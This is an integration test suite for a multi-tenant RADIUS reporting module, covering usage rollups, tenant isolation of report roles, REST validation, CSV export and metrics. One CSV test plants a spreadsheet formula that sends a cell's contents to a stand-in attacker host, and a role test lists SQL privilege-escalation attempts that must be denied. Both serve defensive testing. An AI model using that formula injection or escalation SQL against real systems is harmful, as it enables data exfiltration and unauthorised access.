/**
 * Reports (docs/reports.md): the rollups behind schema reports are right in the tenant's time
 * zone and equal a direct aggregate over radacct; the accounting and post-auth functions feed
 * them; report roles see only their tenant even with hand-written SQL; REST validates ranges
 * and writes CSV a spreadsheet cannot execute.
 */
import { randomBytes } from 'node:crypto';
import request from 'supertest';
import { Client } from 'pg';
import type { Knex } from 'knex';
import { createTestApi, testConfig, type TestApi, type TestTenant } from '../helpers/api';
import { createApp } from '../../src/http/app';
import { appConfig } from '../../src/main';
import { createLogger } from '../../src/logger';
import { createTestDatabase, withRole, type TestDatabase } from '../helpers/db';
import { addNas } from './enforcement-fixtures';
import { createReportRole, dropReportRole } from '../../src/modules/reports/report-roles';
import { REPORT_NAMES } from '../../src/modules/reports/reports.schemas';

const TZ = 'America/Los_Angeles';
let tdb: TestDatabase;
let api: TestApi;
let a: TestTenant;
let b: TestTenant;
let nasA: string;
let nasB: string;
let db: Knex;

beforeAll(async () => {
  tdb = await createTestDatabase();
  api = await createTestApi(tdb);
  db = tdb.db;
  a = await api.newTenant();
  b = await api.newTenant();
  await db('tenants').where({ id: a.id }).update({ time_zone: TZ });
  nasA = await addNas(db, a.id, '127.0.0.1', 'secret-a', 3799, { identifier: `a-${randomBytes(3).toString('hex')}` });
  nasB = await addNas(db, b.id, '127.0.0.1', 'secret-b', 3799, { identifier: `b-${randomBytes(3).toString('hex')}` });
});
afterAll(async () => {
  await api.close();
  await tdb.drop();
});

/** The tenant day of an instant, as the rollup computes it. */
const dayIn = (tz: string, at: Date) =>
  new Intl.DateTimeFormat('en-CA', { timeZone: tz, year: 'numeric', month: '2-digit', day: '2-digit' }).format(at);

interface Packet {
  at: Date;
  input: number;
  output: number;
  seconds: number;
  stop?: boolean;
}

/** Writes a session to radacct packet by packet, as lango_acct_do does (counters only grow). */
async function session(tenantId: string, nasId: string, username: string, packets: Packet[]): Promise<number> {
  const [first, ...rest] = packets;
  const [row] = await db('radacct')
    .insert({
      tenant_id: tenantId,
      nas_id: nasId,
      acctsessionid: randomBytes(4).toString('hex'),
      acctuniqueid: randomBytes(16).toString('hex'),
      username,
      nasipaddress: '127.0.0.1',
      acctstarttime: first!.at,
      acctupdatetime: first!.at,
      acctsessiontime: first!.seconds,
      acctinputoctets: first!.input,
      acctoutputoctets: first!.output,
    })
    .returning('radacctid');
  for (const p of rest) {
    await db('radacct')
      .where({ radacctid: row.radacctid })
      .update({
        acctupdatetime: p.at,
        acctsessiontime: p.seconds,
        acctinputoctets: p.input,
        acctoutputoctets: p.output,
        ...(p.stop ? { acctstoptime: p.at, acctterminatecause: 'User-Request' } : {}),
      });
  }
  return Number(row.radacctid);
}

const usageRows = async (tenantId: string) =>
  (
    await db.raw(
      `SELECT day::text AS day, username, input_octets::float8 AS i, output_octets::float8 AS o, session_seconds::float8 AS s, sessions::int AS n
                 FROM reports.usage_daily WHERE tenant_id = ? ORDER BY day, username`,
      [tenantId],
    )
  ).rows;

describe('the daily usage rollup', () => {
  it("splits a session that spans the tenant's midnight (not UTC's) at its interims", async () => {
    const user = `mid-${randomBytes(2).toString('hex')}`;
    // 23:50 in Los Angeles on Nov 29 is 07:50 UTC on Nov 30: in UTC all of it is one day.
    await session(a.id, nasA, user, [
      { at: new Date('2026-11-30T07:50:00Z'), input: 0, output: 0, seconds: 0 },
      { at: new Date('2026-11-30T07:59:00Z'), input: 100, output: 10, seconds: 540 },
      { at: new Date('2026-11-30T08:10:00Z'), input: 300, output: 50, seconds: 1200 },
      { at: new Date('2026-11-30T09:00:00Z'), input: 400, output: 70, seconds: 4200, stop: true },
    ]);
    const rows = (await usageRows(a.id)).filter((r: { username: string }) => r.username === user);
    expect(rows).toEqual([
      { day: '2026-11-29', username: user, i: 100, o: 10, s: 540, n: 1 },
      { day: '2026-11-30', username: user, i: 300, o: 60, s: 3660, n: 0 },
    ]);
    const res = await request(api.app)
      .get('/api/v1/reports/usage')
      .query({ from: '2026-11-29', to: '2026-11-30', username: user })
      .set(a.auth);
    expect(res.status).toBe(200);
    expect(res.body.timeZone).toBe(TZ);
    expect(res.body.rows.map((r: Record<string, unknown>) => [r.day, r.input_octets, r.total_octets])).toEqual([
      ['2026-11-29', 100, 110],
      ['2026-11-30', 300, 360],
    ]);
  });

  it('equals a direct aggregate over radacct for random sessions with interims', async () => {
    // A deterministic generator: the same sessions on every run.
    let seed = 12345;
    const rand = (n: number) => {
      seed = (seed * 1103515245 + 12345) % 2 ** 31;
      return seed % n;
    };
    const users = Array.from({ length: 5 }, (_, i) => `rnd${i}-${randomBytes(2).toString('hex')}`);
    const expected = new Map<string, { i: number; o: number; s: number; n: number }>();
    const add = (day: string, user: string, d: { i: number; o: number; s: number; n: number }) => {
      const k = `${day}|${user}`;
      const cur = expected.get(k) ?? { i: 0, o: 0, s: 0, n: 0 };
      expected.set(k, { i: cur.i + d.i, o: cur.o + d.o, s: cur.s + d.s, n: cur.n + d.n });
    };
    const base = Date.parse('2026-10-01T00:00:00Z');
    for (let k = 0; k < 40; k++) {
      const user = users[rand(users.length)]!;
      let at = base + rand(3 * 86400) * 1000;
      const packets: Packet[] = [{ at: new Date(at), input: 0, output: 0, seconds: 0 }];
      const interims = rand(6);
      let [i, o, s] = [0, 0, 0];
      for (let j = 0; j <= interims; j++) {
        const step = 60 + rand(4 * 3600);
        at += step * 1000;
        s += step;
        i += rand(5_000_000);
        o += rand(50_000_000);
        packets.push({ at: new Date(at), input: i, output: o, seconds: s, stop: j === interims && rand(2) === 0 });
      }
      let prev = { input: 0, output: 0, seconds: 0 };
      packets.forEach((p, idx) => {
        add(dayIn(TZ, p.at), user, {
          i: p.input - prev.input,
          o: p.output - prev.output,
          s: p.seconds - prev.seconds,
          n: idx === 0 ? 1 : 0,
        });
        prev = p;
      });
      await session(a.id, nasA, user, packets);
    }
    const rows = (await usageRows(a.id)).filter((r: { username: string }) => users.includes(r.username));
    const want = [...expected.entries()]
      .map(([k, v]) => ({ day: k.split('|')[0], username: k.split('|')[1], ...v }))
      .sort((x, y) => (x.day! < y.day! ? -1 : x.day! > y.day! ? 1 : x.username! < y.username! ? -1 : 1));
    expect(rows).toEqual(want);
    // And per user, over all days, exactly radacct's counters.
    const direct = (
      await db.raw(
        `SELECT username, sum(acctinputoctets)::float8 AS i, sum(acctoutputoctets)::float8 AS o, sum(acctsessiontime)::float8 AS s, count(*)::int AS n
                    FROM radacct WHERE tenant_id = ? AND username = ANY (?) GROUP BY username ORDER BY username`,
        [a.id, users],
      )
    ).rows;
    const rolled = (
      await db.raw(
        `SELECT username, sum(input_octets)::float8 AS i, sum(output_octets)::float8 AS o, sum(session_seconds)::float8 AS s, sum(sessions)::int AS n
                    FROM usage_daily WHERE tenant_id = ? AND username = ANY (?) GROUP BY username ORDER BY username`,
        [a.id, users],
      )
    ).rows;
    expect(rolled).toEqual(direct);
  });

  it('is fed by the accounting function (Start, Interim, Stop) and counts Accounting-On per NAS', async () => {
    const ident = (await db('nas').where({ id: nasB }).first()).identifier;
    const user = `fn-${randomBytes(2).toString('hex')}`;
    const uid = randomBytes(8).toString('hex');
    const acct = (status: string, secs: number, input: number, output: number) =>
      db.raw(
        `SELECT lango_acct_do(?, '127.0.0.1', ?, ?, 'sess-1', ?, '', '', '', '', 0, ?, ?, 0, ?, 1, '', '', '', '', '', '', '', '', '', '', '', '', '')`,
        [status, ident, user, uid, secs, input, output],
      );
    await acct('Start', 0, 0, 0);
    await acct('Interim-Update', 60, 1000, 2000);
    await acct('Stop', 120, 5000, 9000);
    // A repeated Stop changes nothing.
    await acct('Stop', 120, 5000, 9000);
    const rolled = (
      await db.raw(
        `SELECT sum(input_octets)::float8 AS i, sum(output_octets)::float8 AS o, sum(session_seconds)::float8 AS s, sum(sessions)::int AS n FROM usage_daily WHERE tenant_id = ? AND username = ?`,
        [b.id, user],
      )
    ).rows[0];
    // Out-Gigawords 1: 2^32 + 9000.
    expect(rolled).toEqual({ i: 5000, o: 2 ** 32 + 9000, s: 120, n: 1 });
    const r = (
      await db.raw(
        `SELECT acctinputoctets::float8 AS i, acctoutputoctets::float8 AS o FROM radacct WHERE acctuniqueid = ?`,
        [uid],
      )
    ).rows[0];
    expect(r).toEqual({ i: rolled.i, o: rolled.o });

    await db.raw(
      `SELECT lango_acct_do('Accounting-On', '127.0.0.1', ?, '', 'x', 'on-1', '', '', '', '', 0, 0, 0, 0, 0, 0, '', '', '', '', '', '', '', '', '', '', '', '', '')`,
      [ident],
    );
    await db.raw(
      `SELECT lango_acct_do('Accounting-On', '127.0.0.1', ?, '', 'x', 'on-2', '', '', '', '', 0, 0, 0, 0, 0, 0, '', '', '', '', '', '', '', '', '', '', '', '', '')`,
      [ident],
    );
    const res = await request(api.app).get('/api/v1/reports/nas-health').set(b.auth);
    expect(res.status).toBe(200);
    const row = res.body.rows.find((x: { nas_id: string }) => x.nas_id === nasB);
    expect(row).toMatchObject({ accounting_on_count: 2, accounting_off_count: 0, active_sessions: 0 });
    expect(row.last_accounting_at).not.toBeNull();
  });
});

describe('authentication failures', () => {
  it('are counted per tenant day and reason from post-auth', async () => {
    const ident = (await db('nas').where({ id: nasB }).first()).identifier;
    const post = (user: string, reply: string, reason: string) =>
      db.raw(`SELECT lango_postauth_do('127.0.0.1', ?, ?, ?, ?, '', '', '')`, [ident, user, reply, reason]);
    await post('x1', 'Access-Reject', 'Subscription expired');
    await post('x2', 'Access-Reject', 'Subscription expired');
    await post('x3', 'Access-Reject', '');
    await post('x4', 'Access-Accept', '');
    const res = await request(api.app).get('/api/v1/reports/auth-failures').query({ groupBy: 'reason' }).set(b.auth);
    expect(res.status).toBe(200);
    expect(res.body.rows).toEqual([
      { reason: 'Subscription expired', failures: 2 },
      { reason: 'unknown', failures: 1 },
    ]);
    // Tenant A sees none of B's.
    const other = await request(api.app).get('/api/v1/reports/auth-failures').query({ groupBy: 'reason' }).set(a.auth);
    expect(other.body.rows).toEqual([]);
  });
});

describe('report roles', () => {
  let role: { role: string; password: string };
  let c: Client;
  beforeAll(async () => {
    await session(b.id, nasB, 'b-secret-user', [{ at: new Date(), input: 7, output: 7, seconds: 7 }]);
    role = await createReportRole(db, { tenant: a.slug });
    c = new Client({ connectionString: withRole(tdb.url, { name: role.role, password: role.password }) });
    await c.connect();
  });
  afterAll(async () => {
    await c.end();
    await dropReportRole(db, role.role);
  });

  /** The SQLSTATE of a statement, run in a READ WRITE transaction (the role's default is read-only: privileges are what is tested). */
  const code = async (sql: string) => {
    await c.query('BEGIN READ WRITE');
    try {
      await c.query(sql);
      return undefined;
    } catch (err) {
      return (err as { code?: string }).code;
    } finally {
      await c.query('ROLLBACK');
    }
  };

  it("sees its tenant's rows through the views, and only those", async () => {
    const mine = await c.query('SELECT DISTINCT tenant_id FROM usage_daily');
    expect(mine.rows).toEqual([{ tenant_id: a.id }]);
    for (const view of [
      'usage_daily',
      'usage_nas_daily',
      'usage_monthly',
      'top_users',
      'active_sessions',
      'auth_outcomes',
      'auth_failures',
      'nas_health',
      'enforcement_outcomes',
      'sales',
      'revenue_daily',
      'payment_funnel',
      'voucher_stock',
    ]) {
      const r = await c.query(`SELECT count(*)::int AS n FROM reports.${view} WHERE tenant_id <> $1`, [a.id]);
      expect([view, r.rows[0].n]).toEqual([view, 0]);
    }
    expect(
      (await c.query('SELECT count(*)::int AS n FROM reports.usage_daily WHERE tenant_id = $1', [b.id])).rows[0].n,
    ).toBe(0);
    expect(
      (await c.query(`SELECT count(*)::int AS n FROM reports.usage_daily WHERE username = 'b-secret-user'`)).rows[0].n,
    ).toBe(0);
    expect((await c.query('SELECT public.lango_report_tenants() AS t')).rows[0].t).toEqual([a.id]);
  });

  it.each([
    ['SELECT * FROM public.radacct LIMIT 1', '42501'],
    ['SELECT * FROM public.usage_daily LIMIT 1', '42501'],
    ['SELECT * FROM public.report_roles', '42501'],
    ['SELECT * FROM public.tenants', '42501'],
    ['UPDATE public.report_roles SET tenant_id = tenant_id', '42501'],
    ['SET ROLE lango_test_app', '42501'],
    ['SET SESSION AUTHORIZATION lango_test_app', '42501'],
    ["CREATE FUNCTION reports.leak(uuid) RETURNS boolean LANGUAGE sql COST 0.0000001 AS 'SELECT true'", '42501'],
    ['CREATE TEMP TABLE scratch (x int)', '42501'],
    ['CREATE VIEW reports.mine AS SELECT 1', '42501'],
    ['CREATE TABLE public.mine (x int)', '42501'],
    ['INSERT INTO public.report_roles (role_name, tenant_id) SELECT current_user, id FROM public.tenants', '42501'],
    ["SELECT public.lango_rad_value('x')", '42501'],
    [
      "SELECT public.lango_acct_do('Accounting-On', '127.0.0.1', '', '', '', '', '', '', '', '', 0, 0, 0, 0, 0, 0, '', '', '', '', '', '', '', '', '', '', '', '', '')",
      '42501',
    ],
    ["SELECT * FROM public.lango_period_usage(gen_random_uuid(), 'x', gen_random_uuid(), now())", '42501'],
  ])('cannot: %s', async (sql, expected) => {
    expect(await code(sql)).toBe(expected);
  });

  it('cannot write, even through the views', async () => {
    // usage_nas_daily is a simple (auto-updatable) view: only the missing privilege stops it.
    expect(await code(`DELETE FROM reports.usage_nas_daily`)).toBe('42501');
    expect(await code(`DELETE FROM reports.auth_outcomes`)).toBeDefined();
    expect(await code(`UPDATE reports.usage_daily SET username = 'x'`)).toBeDefined();
    // Its sessions are read-only by default too.
    expect((await c.query('SHOW default_transaction_read_only')).rows[0].default_transaction_read_only).toBe('on');
  });

  it('fails closed: a report role whose registration is gone sees nothing', async () => {
    const other = await createReportRole(db, { tenant: b.id });
    await db('report_roles').where({ role_name: other.role }).del();
    const c2 = new Client({ connectionString: withRole(tdb.url, { name: other.role, password: other.password }) });
    await c2.connect();
    try {
      expect((await c2.query('SELECT count(*)::int AS n FROM reports.usage_daily')).rows[0].n).toBe(0);
      expect((await c2.query('SELECT count(*)::int AS n FROM reports.nas_health')).rows[0].n).toBe(0);
    } finally {
      await c2.end();
      await db.raw(`INSERT INTO report_roles (role_name, tenant_id) VALUES (?, ?)`, [other.role, b.id]);
      await dropReportRole(db, other.role);
    }
  });
});

describe('REST', () => {
  const get = (name: string, query: Record<string, string | number>, t = a) =>
    request(api.app).get(`/api/v1/reports/${name}`).query(query).set(t.auth);

  it.each([
    [{ from: '2026-11-30', to: '2026-11-01' }, 'from'],
    [{ from: '2025-01-01', to: '2026-11-01' }, 'to'],
    [{ from: '2026-02-30', to: '2026-03-01' }, 'from'],
    [{ from: '2026-13-01' }, 'from'],
    [{ from: 'yesterday' }, 'from'],
    [{ to: '2026-11-01T00:00:00Z' }, 'to'],
    [{ groupBy: 'planet' }, 'groupBy'],
    [{ limit: 0 }, 'limit'],
    [{ limit: 100001 }, 'limit'],
    [{ format: 'xlsx' }, 'format'],
  ])('usage %j: 400 naming %s', async (query, field) => {
    const res = await get('usage', query);
    expect(res.status).toBe(400);
    expect(res.body.error.code).toBe('VALIDATION_FAILED');
    expect(JSON.stringify(res.body.error.details)).toContain(field);
  });

  it('a report of the present takes no range; an unknown report is a 400', async () => {
    expect((await get('sessions', { from: '2026-11-01' })).status).toBe(400);
    expect((await get('nonsense', {})).status).toBe(400);
  });

  it("defaults to the last 30 days up to today in the tenant's time zone", async () => {
    const res = await get('usage', {});
    expect(res.status).toBe(200);
    const today = dayIn(TZ, new Date());
    expect(res.body.to).toBe(today);
    expect((Date.parse(res.body.to) - Date.parse(res.body.from)) / 86400000).toBe(29);
  });

  it('limits rows and says so', async () => {
    const res = await get('usage', { from: '2026-09-30', to: '2026-10-06', groupBy: 'user_day', limit: 2 });
    expect(res.status).toBe(200);
    expect(res.body.rows).toHaveLength(2);
    expect(res.body.truncated).toBe(true);
  });

  it('CSV with ?format=csv or Accept: text/csv, safe to open in a spreadsheet', async () => {
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    await session(a.id, nasA, evil, [
      { at: new Date('2026-11-15T20:00:00Z'), input: 0, output: 0, seconds: 0 },
      { at: new Date('2026-11-15T20:10:00Z'), input: 10, output: 20, seconds: 600 },
    ]);
    const res = await get('usage', { from: '2026-11-15', to: '2026-11-15', groupBy: 'user', format: 'csv' });
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(res.headers['content-disposition']).toContain('usage-2026-11-15-2026-11-15.csv');
    const lines = res.text.split('\r\n');
    expect(lines[0]).toBe('username,subscriber_id,input_octets,output_octets,total_octets,session_seconds,sessions');
    expect(lines[1]).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",,10,20,30,600,1`);
    const accept = await request(api.app)
      .get('/api/v1/reports/usage')
      .query({ from: '2026-11-15', to: '2026-11-15', groupBy: 'user' })
      .set(a.auth)
      .set('Accept', 'text/csv');
    expect(accept.text).toBe(res.text);
    // An empty answer still has its header.
    const empty = await get('usage', { from: '2020-01-01', to: '2020-01-02', format: 'csv' });
    expect(empty.text).toBe('day,users,input_octets,output_octets,total_octets,session_seconds,sessions\r\n');
    const emptyUsers = await get('top-users', { from: '2020-01-01', to: '2020-01-02', format: 'csv' });
    expect(emptyUsers.text).toBe(
      'username,subscriber_id,input_octets,output_octets,total_octets,session_seconds,sessions\r\n',
    );
  });

  it("one tenant's API never answers with another's rows", async () => {
    const res = await get('usage', { from: '2026-09-01', to: '2026-12-31', groupBy: 'user' }, b);
    expect(res.status).toBe(200);
    expect(
      res.body.rows.every((r: { username: string }) => !r.username.startsWith('rnd') && !r.username.startsWith('mid-')),
    ).toBe(true);
  });

  it('every report answers for a tenant', async () => {
    for (const name of REPORT_NAMES) {
      const res = await get(name, {});
      expect([name, res.status]).toEqual([name, 200]);
    }
  });
});

describe('/metrics', () => {
  it('HTTP latency by route pattern, authentication outcomes from the rollup, the enforcement queue', async () => {
    await request(api.app).get('/api/v1/reports/usage').set(a.auth);
    await request(api.app).get('/api/v1/reports/nonsense').set(a.auth);
    const res = await request(api.app).get('/metrics');
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/plain/);
    expect(res.text).toMatch(
      /lango_http_request_duration_seconds_count\{method="GET",route="\/api\/v1\/reports\/:name",status="200"\} \d+/,
    );
    expect(res.text).not.toContain('route="/api/v1/reports/usage"');
    expect(res.text).toContain(`lango_radius_auth_attempts{tenant="${b.slug}",reply="Access-Reject"} 3`);
    expect(res.text).toContain(`lango_radius_auth_attempts{tenant="${b.slug}",reply="Access-Accept"} 1`);
    expect(res.text).toMatch(/lango_enforcement_queue_depth \d+/);
    expect(res.text).toContain('lango_process_cpu_seconds_total');
  });

  it('needs its token when one is set, and is not served in production without one', async () => {
    const app = (config: ReturnType<typeof appConfig>) =>
      createApp({ db: tdb.appDb, services: api.services, config, logger: createLogger('silent') }).app;
    const prodNoToken = app({ ...appConfig(testConfig()), production: true });
    expect((await request(prodNoToken).get('/metrics')).status).toBe(404);
    const withToken = app({
      ...appConfig(testConfig({ LANGO_METRICS_TOKEN: 'metrics-token-0123456789' })),
      production: true,
    });
    expect((await request(withToken).get('/metrics')).status).toBe(401);
    expect((await request(withToken).get('/metrics').set('Authorization', 'Bearer wrong')).status).toBe(401);
    expect(
      (await request(withToken).get('/metrics').set('Authorization', 'Bearer metrics-token-0123456789')).status,
    ).toBe(200);
  });
});
